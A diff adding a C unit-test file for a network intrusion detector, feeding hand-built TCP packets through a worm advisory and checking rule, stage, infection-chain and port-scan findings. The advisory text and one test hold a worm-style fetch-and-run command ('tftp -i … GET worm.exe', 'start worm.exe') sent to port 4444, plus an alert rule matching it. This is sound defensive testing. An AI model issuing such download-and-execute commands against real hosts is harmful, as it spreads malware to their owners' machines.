@@ -1,0 +1,231 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+/*
+ * The pipeline from frames to findings, with an advisory and packets made by hand.
+ */
+#include "wire/watch/watch.h"
+
+#include <stdlib.h>
+#include <string.h>
+
+#include "test.h"
+
+enum { FRAME_MAX = 512, LINK_ETHERNET = 1 };
+
+static char blaster_path[] = "advisories/worm/advisory.yaml";
+static char blaster_id[] = "worm", shell_id[] = "shell", title[] = "Worm", shell_title[] = "shell";
+static char get_text[] = "tftp -i {attacker} GET worm.exe", start_text[] = "start worm.exe";
+static char *texts[] = {get_text, start_text};
+static char rule_text[] =
+	"alert tcp any any -> any 4444 (msg:\"worm name\"; content:\"worm.exe\"; sid:7;)\n";
+static char rule_name[] = "worm.rules", rule_path[] = "advisories/worm/worm.rules";
+
+static struct ww_rules_text rule_file = {
+	.name = rule_name, .path = rule_path, .text = rule_text, .len = sizeof(rule_text) - 1};
+static struct ww_stage shell = {
+	.at = {12, 5},
+	.id = shell_id,
+	.title = {.en = shell_title},
+	.from = WW_ROLE_ATTACKER,
+	.event = WW_STAGE_TEXT,
+	.port = {WW_PROTO_TCP, 4444, 4444},
+	.texts = texts,
+	.n_texts = 2,
+	.sets = WW_HOST_TAKEN_OVER,
+	.confidence = 0.9,
+};
+static struct ww_advisory_port port = {.port = {WW_PROTO_TCP, 4444, 4444}};
+static const struct ww_advisory advisory = {
+	.path = blaster_path,
+	.id = blaster_id,
+	.title = {.en = title},
+	.ports = &port,
+	.n_ports = 1,
+	.rules = &rule_file,
+	.n_rules = 1,
+	.stages = &shell,
+	.n_stages = 1,
+};
+
+/* ---- frames ---- */
+
+struct wire {
+	struct ww_watch *watch;
+	uint64_t frame;
+	int64_t time_us;
+	uint16_t ip_id;
+	unsigned n_findings[WW_FINDING_KIND_COUNT];
+	struct ww_finding last[WW_FINDING_KIND_COUNT];
+};
+
+static void put16(uint8_t *to, unsigned value)
+{
+	to[0] = (uint8_t)(value >> 8);
+	to[1] = (uint8_t)value;
+}
+
+static void put32(uint8_t *to, uint32_t value)
+{
+	put16(to, value >> 16);
+	put16(to + 2, value & 0xffff);
+}
+
+static void send_tcp(struct wire *wire, uint32_t src, uint16_t sport, uint32_t dst, uint16_t dport,
+	uint8_t flags, uint32_t seq, uint32_t ack, const char *text)
+{
+	uint8_t bytes[FRAME_MAX] = {2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 0x08, 0x00, 0x45};
+	size_t n = strlen(text);
+	assert_true(n <= FRAME_MAX - 54);
+	put16(bytes + 16, (unsigned)(40 + n));
+	put16(bytes + 18, ++wire->ip_id);
+	bytes[22] = 64;
+	bytes[23] = WW_PROTO_TCP;
+	put32(bytes + 26, src);
+	put32(bytes + 30, dst);
+	put16(bytes + 34, sport);
+	put16(bytes + 36, dport);
+	put32(bytes + 38, seq);
+	put32(bytes + 42, ack);
+	bytes[46] = 0x50;
+	bytes[47] = flags;
+	memcpy(bytes + 54, text, n);
+	wire->time_us += 10000;
+	const struct ww_frame frame = {
+		.data = bytes,
+		.captured = (uint32_t)(54 + n),
+		.length = (uint32_t)(54 + n),
+		.time_us = wire->time_us,
+		.number = ++wire->frame,
+		.link_type = LINK_ETHERNET,
+	};
+	ww_watch_feed(wire->watch, &frame, 1);
+}
+
+static void on_finding(void *context, const struct ww_finding *finding)
+{
+	struct wire *wire = context;
+	wire->n_findings[finding->kind]++;
+	wire->last[finding->kind] = *finding;
+	wire->last[finding->kind].evidence = NULL;
+}
+
+static void on_update(void *context, const struct ww_finding *finding)
+{
+	struct wire *wire = context;
+	wire->last[finding->kind] = *finding;
+	wire->last[finding->kind].evidence = NULL;
+}
+
+static struct ww_plan *plan_of(const struct ww_advisory *of)
+{
+	struct ww_plan *plan = NULL;
+	struct ww_err err = {0};
+	assert_int_equal(ww_plan_new(NULL, 0, &plan), 0);
+	assert_int_equal(ww_plan_advisory(plan, of, &err), 0);
+	assert_int_equal(ww_plan_ready(plan, &err), 0);
+	return plan;
+}
+
+static void begin(struct wire *wire, struct ww_plan *plan)
+{
+	const struct ww_watch_sink sink = {wire, on_finding, on_update};
+	const struct ww_watch_options options = {0};
+	*wire = (struct wire){.time_us = 1000000};
+	assert_int_equal(ww_watch_new(plan, &options, &sink, &wire->watch), 0);
+}
+
+enum { ATTACKER = 0x0a000001, VICTIM = 0x0a000002 };
+
+/* ---- tests ---- */
+
+static void shell_text_names_the_parent(void **state)
+{
+	(void)state;
+	struct ww_plan *plan = plan_of(&advisory);
+	struct wire wire;
+	begin(&wire, plan);
+	send_tcp(&wire, ATTACKER, 1025, VICTIM, 4444, WW_TCP_SYN, 99, 0, "");
+	send_tcp(&wire, VICTIM, 4444, ATTACKER, 1025, WW_TCP_SYN | WW_TCP_ACK, 499, 100, "");
+	send_tcp(&wire, ATTACKER, 1025, VICTIM, 4444, WW_TCP_ACK, 100, 500, "");
+	/* The command is split in the middle of the address. */
+	send_tcp(&wire, ATTACKER, 1025, VICTIM, 4444, WW_TCP_ACK, 100, 500, "tftp -i 10.0");
+	send_tcp(&wire, ATTACKER, 1025, VICTIM, 4444, WW_TCP_ACK, 112, 500, ".0.1 GET worm.exe\n");
+	assert_int_equal(ww_watch_finish(wire.watch), 0);
+
+	assert_int_equal(wire.n_findings[WW_FINDING_RULE], 1);
+	assert_int_equal(wire.last[WW_FINDING_RULE].sid, 7);
+	assert_int_equal(wire.last[WW_FINDING_RULE].frames[0], 5);
+	assert_true(wire.n_findings[WW_FINDING_STAGE] >= 1);
+	assert_string_equal(wire.last[WW_FINDING_STAGE].why_file, blaster_path);
+	assert_int_equal(wire.last[WW_FINDING_STAGE].why_line, 12);
+
+	const struct ww_chain *chain = ww_watch_chain(wire.watch);
+	const struct ww_host *taken = NULL;
+	for (size_t i = 0; i < ww_chain_n_hosts(chain); i++)
+		if (ww_chain_host(chain, i)->has_parent)
+			taken = ww_chain_host(chain, i);
+	assert_non_null(taken);
+	assert_int_equal(ww_ip_v4(&taken->ip), VICTIM);
+	assert_int_equal(ww_ip_v4(&taken->parent.ip), ATTACKER);
+	assert_string_equal(taken->state, "taken_over");
+	assert_true(taken->infected);
+
+	struct ww_watch_summary summary;
+	ww_watch_summarize(wire.watch, &summary);
+	assert_int_equal(summary.packets->packets, 5);
+	assert_int_equal(summary.hosts, 2);
+	assert_int_equal(summary.flows->flows, 1);
+	assert_int_equal(summary.rules.loaded, 1); /* those made from texts are not counted */
+	assert_false(ww_watch_lost(&summary));
+	ww_watch_free(&wire.watch);
+	ww_plan_free(&plan);
+}
+
+static void silent_hosts_show_a_scanner(void **state)
+{
+	(void)state;
+	struct ww_plan *plan = plan_of(&advisory);
+	struct wire wire;
+	begin(&wire, plan);
+	for (uint32_t i = 0; i < 12; i++)
+		send_tcp(&wire, ATTACKER, (uint16_t)(2000 + i), VICTIM + i, 445, WW_TCP_SYN, i, 0,
+			"");
+	assert_int_equal(ww_watch_finish(wire.watch), 0);
+	assert_int_equal(wire.n_findings[WW_FINDING_SCAN], 1);
+	const struct ww_finding *scan = &wire.last[WW_FINDING_SCAN];
+	assert_string_equal(scan->scan, "horizontal");
+	assert_int_equal(scan->targets, 12);
+	assert_int_equal(scan->hosts, 12);
+	assert_int_equal(scan->port, 445);
+	assert_int_equal(ww_chain_n_hosts(ww_watch_chain(wire.watch)), 0);
+	ww_watch_free(&wire.watch);
+	ww_plan_free(&plan);
+}
+
+static void a_bad_stage_text_is_told_with_its_line(void **state)
+{
+	(void)state;
+	static char bad[] = "|0g|";
+	char *bad_texts[] = {bad};
+	struct ww_stage stage = shell;
+	stage.texts = bad_texts;
+	stage.n_texts = 1;
+	struct ww_advisory broken = advisory;
+	broken.stages = &stage;
+	struct ww_plan *plan = NULL;
+	struct ww_err err = {0};
+	assert_int_equal(ww_plan_new(NULL, 0, &plan), 0);
+	assert_int_equal(ww_plan_advisory(plan, &broken, &err), -EINVAL);
+	assert_int_equal(err.at.line, 12);
+	assert_non_null(strstr(err.text, "shell"));
+	ww_plan_free(&plan);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(shell_text_names_the_parent),
+		cmocka_unit_test(silent_hosts_show_a_scanner),
+		cmocka_unit_test(a_bad_stage_text_is_told_with_its_line),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
